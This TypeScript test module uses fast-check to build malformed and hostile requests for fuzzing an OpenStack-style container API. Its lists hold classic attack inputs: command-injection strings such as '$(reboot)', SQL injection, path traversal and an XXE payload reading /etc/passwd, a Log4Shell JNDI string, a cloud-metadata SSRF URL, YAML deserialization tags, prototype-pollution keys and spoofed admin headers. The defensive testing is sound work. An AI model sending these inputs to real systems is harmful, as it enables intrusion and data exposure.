/**
 * Requests made worse: a good one of each route, with one thing in it that nobody sends who means well; and ones made out
 * of the API's description (described-requests.ts), as they are and spoilt. Bodies are spoilt at any depth, so that what is
 * wrong stands where a route looks.
 */
import type { Json, JsonObject } from "@jeroboam/core/json";
import * as fc from "fast-check";
import type { DescribedRequest } from "./described-requests.ts";
import { headersOf, queriesOf, valuesOf } from "./described-requests.ts";

export interface HostileRequest {
  readonly path: string;
  readonly content: string | undefined;
  readonly headers: Readonly<Record<string, string>>;
  /** Which trick it is, for the count. */
  readonly trick: string;
}

interface GoodRequest {
  readonly method: string;
  readonly path: string;
  readonly body: Json | undefined;
}

/** Names that mean something to a runtime, and to nobody else. */
const DANGEROUS_NAMES = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "then", ""];

const YAML_BOMBS: readonly string[] = [
  `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from(
    "bcdefghi",
    (name, index) =>
      `${name}: &${name} [${"abcdefgh"
        .charAt(index)
        .replace(/./, (last) => Array.from({ length: 9 }, () => `*${last}`).join(","))}]`,
  ).join("\n")}`,
  "a: &a\n  b: *a\n",
  `${"- ".repeat(2_000)}x`,
  `${"{a: ".repeat(500)}1${"}".repeat(500)}`,
  "kind: Pod\nkind: Service\n",
  "--- \nkind: Pod\n--- \nkind: Pod\n",
  "!!js/function 'function () { process.exit() }'",
  "!!python/object/apply:os.system ['true']",
  "<<: {__proto__: {polluted: true}}\nkind: Pod",
  "? [a, b]\n: c\n",
  "apiVersion: v1\nkind: Pod\nmetadata: {name: 0x7fffffffffffffffffff, labels: {a: .inf}}",
  "\u0000",
];

const HOSTILE_TEXTS: readonly string[] = [
  ...YAML_BOMBS,
  "a".repeat(300),
  "a".repeat(70_000),
  "\ud800",
  "\u202etxt.exe",
  "e\u0301".repeat(300),
  "../../../etc/passwd",
  "${jndi:ldap://example.com/a}",
  "{{7*7}}",
  "'; DROP TABLE bays; --",
  "$(reboot)",
  "`reboot`",
  "-----BEGIN CERTIFICATE REQUEST-----\nAAAA\n-----END CERTIFICATE REQUEST-----",
  "http://169.254.169.254/latest/meta-data",
  "%00",
  "a\r\nX-Injected: yes",
  "9".repeat(400),
  "1e309",
  "NaN",
  "True",
];

/** Texts that have done harm somewhere. */
export const hostileTexts: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: "binary", maxLength: 60 }),
);

const hostileNumber = fc.constantFrom(-1, -0, 0.5, 1e21, 1e308, -1e308, 2 ** 31, 2 ** 53, 2 ** 63, 5e-324, 65_536);

const hostileValue = fc.oneof(
  fc.constantFrom<Json>(...HOSTILE_TEXTS),
  hostileNumber,
  fc.constantFrom<Json>(
    null,
    true,
    false,
    [],
    {},
    [[]],
    [{}],
    Array.from({ length: 2_000 }, () => "x"),
  ),
  fc.constantFrom<Json>(nested(25), nested(19)),
  fc.constantFrom(...DANGEROUS_NAMES).map((name): Json => Object.fromEntries([[name, { polluted: true }]])),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.jsonValue({ maxDepth: 3 }) as fc.Arbitrary<Json>,
);

function nested(depth: number): Json {
  return depth === 0 ? "deep" : { a: nested(depth - 1) };
}

/** One place in the body is another value, is gone, or is beside one that has no business there. */
function spoilt(body: Json): fc.Arbitrary<Json> {
  return fc
    .tuple(fc.nat({ max: 1_000 }), fc.constantFrom("replace", "remove", "add"), hostileValue, name)
    .map(([at, how, value, key]) => {
      const copy = structuredClone(body);
      const places = placesIn(copy);
      const [holder, place] = places[at % Math.max(1, places.length)] ?? [undefined, ""];
      if (holder === undefined) return value;
      // Own properties, whatever they are called.
      if (how === "add") define(holder, key, value);
      else if (how === "replace") define(holder, place, value);
      else delete holder[place];
      return copy;
    });
}

const name = fc.oneof(
  fc.constantFrom(...DANGEROUS_NAMES, "uuid", "project_id", "user_id", "status", "links", "id", "trust_id", "ca_key"),
  fc.string({ maxLength: 20 }),
);

function define(holder: JsonObject, key: string, value: Json): void {
  Object.defineProperty(holder, key, { value, enumerable: true, configurable: true, writable: true });
}

/** Every object and list in it, with each of its keys. */
function placesIn(value: Json): (readonly [JsonObject, string])[] {
  if (value === null || typeof value !== "object") return [];
  const holder = value as JsonObject;
  return Object.keys(holder).flatMap((key) => [[holder, key] as const, ...placesIn(holder[key] ?? null)]);
}

const PATHS = [
  "/name",
  "/labels",
  "/labels/a",
  "/node_count",
  "/uuid",
  "/project_id",
  "/__proto__/x",
  "/constructor/name",
];
const operation = fc.record(
  {
    op: fc.constantFrom("add", "replace", "remove", "test", "move", "copy", "__proto__"),
    path: fc.oneof(
      fc.constantFrom(...PATHS, "", "/", "//", "/-", "/~0~1", "/labels/__proto__", "/trust_id", "name"),
      fc.string({ maxLength: 30 }).map((text) => `/${text}`),
    ),
    from: fc.constantFrom("/uuid", "/labels"),
    value: hostileValue,
  },
  { requiredKeys: ["op", "path"] },
);
const patch = fc.oneof(
  fc.array(operation, { maxLength: 4 }),
  operation.map((one) => Array.from({ length: 200 }, () => one)),
  operation,
) as fc.Arbitrary<Json>;

/** What is no JSON, or is more of it than it looks. */
const rawContent = fc.constantFrom(
  "{",
  '{"a":1,"a":2}',
  '{"__proto__":{"polluted":true}}',
  "[".repeat(100_000),
  `${'{"a":'.repeat(1_000)}1${"}".repeat(1_000)}`,
  `{"a":${"9".repeat(5_000)}}`,
  '"\\ud800"',
  "\ufeff{}",
  "null",
  "1e999",
  " ".repeat(10_000),
  `"${"x".repeat(1_100_000)}"`,
  "name=x&bay=y",
  "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
);

const headers = fc.constantFrom<Readonly<Record<string, string>>>(
  { "openstack-api-version": "container-infra 1.999" },
  { "openstack-api-version": "container-infra -1.0" },
  { "openstack-api-version": `container-infra ${"1".repeat(5_000)}` },
  { "openstack-api-version": "compute latest, container-infra latest" },
  { "x-openstack-magnum-api-version": "__proto__" },
  { accept: "text/html;q=0.9,*/*;q=0" },
  { accept: "application/xml" },
  { "content-type": "text/xml" },
  { "content-type": "application/json; charset=utf-16" },
  { "content-type": "multipart/form-data; boundary=x" },
  { "content-encoding": "gzip" },
  { "transfer-encoding": "chunked, identity" },
  { "x-http-method-override": "DELETE" },
  { "x-forwarded-host": "evil.example.com\tx", "x-forwarded-proto": "javascript" },
  { forwarded: "host=evil.example.com;proto=file" },
  { "x-forwarded-prefix": "//evil.example.com" },
  { "x-project-id": "b", "x-roles": "admin", "x-user-id": "user-root", "x-identity-status": "Confirmed" },
  { "x-service-token": "token-of-admin" },
  { "x-openstack-request-id": "req-\t<script>" },
  { "x-auth-token": "t".repeat(20_000) },
  { "x-auth-token": "token-of-owner, token-of-admin" },
  { range: "bytes=0-,0-,0-" },
  { expect: "100-continue" },
  { cookie: "session=admin" },
);

const ident = fc.constantFrom(
  "..",
  "%2e%2e%2fadmin",
  "%2e%2e",
  "%00",
  "%ff",
  "%",
  "a%2Fb",
  "..;/",
  "%252e%252e",
  "blue%0d%0aSet-Cookie:%20a=b",
  "__proto__",
  "constructor",
  "*",
  "' or 1=1",
  "x".repeat(5_000),
  "%F0%9F%92%A9",
  "00000000-0000-0000-0000-000000000000",
  "bay%23x",
  "blue.json",
  "blue//",
);

/** Arguments that a route may not have, and values that none should take. */
const argument = fc
  .tuple(
    fc.constantFrom("limit", "marker", "__proto__", "x"),
    fc.oneof(
      fc.constantFrom("-1", "0", "1e9", "9".repeat(50), "__proto__", "constructor", "\u0000", "true"),
      fc.string(),
    ),
  )
  .map(([key, value]) => `${key}=${encodeURIComponent(value.toWellFormed())}`);

export function hostileRequest(
  { method, path, body }: GoodRequest,
  described: DescribedRequest,
): fc.Arbitrary<HostileRequest> {
  const good = { path, content: body === undefined ? undefined : JSON.stringify(body), headers: {} };
  const withContent = (trick: string, contents: fc.Arbitrary<string>) =>
    contents.map((content): HostileRequest => ({ ...good, content, trick }));
  const [where = "", query = ""] = path.split("?");
  const parts = where.split("/");
  const withQuery = (trick: string, asked: string): HostileRequest => ({
    ...good,
    path: `${where}?${[...(query === "" ? [] : [query]), asked].join("&")}`,
    trick,
  });
  const general = [
    headersOf(described.headers).map((more): HostileRequest => ({
      ...good,
      headers: more,
      trick: "described headers",
    })),
    ...(described.query.length > 0
      ? [queriesOf(described.query).map((asked) => withQuery("described query", asked))]
      : []),
    headers.map((more): HostileRequest => ({ ...good, headers: more, trick: "headers" })),
    fc.tuple(fc.nat(), ident).map(([at, text]): HostileRequest => {
      const place = 2 + (at % Math.max(1, parts.length - 2));
      return { ...good, path: [...parts.slice(0, place), text, ...parts.slice(place + 1)].join("/"), trick: "path" };
    }),
    fc.array(argument, { minLength: 1, maxLength: 3 }).map((all) => withQuery("query", all.join("&"))),
  ];
  if (method === "GET" || method === "DELETE") return fc.oneof(...general);
  const valid = described.body && valuesOf(described.body);
  const bodies = [
    ...(valid
      ? [
          { weight: 6, arbitrary: withContent("described body", valid.map(textOf)) },
          { weight: 2, arbitrary: withContent("described body, spoilt", valid.chain(spoilt).map(textOf)) },
        ]
      : []),
    ...(body === undefined ? [] : [{ weight: 6, arbitrary: withContent("body", spoilt(body).map(textOf)) }]),
    ...(method === "PATCH" ? [{ weight: 4, arbitrary: withContent("patch", patch.map(textOf)) }] : []),
    { weight: 2, arbitrary: withContent("no JSON", rawContent) },
    { weight: 1, arbitrary: withContent("another body", hostileValue.map(textOf)) },
  ];
  return fc.oneof(...bodies, ...general.map((arbitrary) => ({ weight: 1, arbitrary })));
}

const textOf = (value: Json): string => JSON.stringify(value);
